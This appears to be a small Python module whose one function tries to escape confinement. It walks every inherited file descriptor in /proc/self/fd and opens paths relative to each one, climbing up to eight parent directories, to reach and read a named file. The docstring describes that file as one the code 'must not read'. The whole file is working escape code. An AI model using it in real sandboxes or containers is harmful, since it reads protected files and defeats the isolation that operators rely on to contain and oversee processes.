"""Looks for a way out through the descriptors it inherited: every open one, and a walk up
from each folder one leads to, towards a file it must not read."""

import os


def escape(name):
    found = {"open": {}, "read": []}
    for entry in os.listdir("/proc/self/fd"):
        fd = int(entry)
        try:
            found["open"][fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        for up in range(8):
            for target in ("../" * up + name, "../" * up + "lib/" + name):
                try:
                    opened = os.open(target, os.O_RDONLY, dir_fd=fd)
                except OSError:
                    continue
                found["read"].append(os.read(opened, 100).decode(errors="replace"))
                os.close(opened)
    return found
